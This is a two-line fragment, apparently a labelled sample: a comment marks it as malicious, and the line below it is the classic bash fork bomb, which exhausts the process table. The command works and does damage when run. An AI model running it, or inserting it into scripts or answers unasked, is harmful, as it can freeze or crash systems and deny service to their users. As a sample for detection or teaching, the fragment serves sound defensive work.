# Malicious: the classic bash fork bomb; exhausts the process table.
:(){ :|:& };:
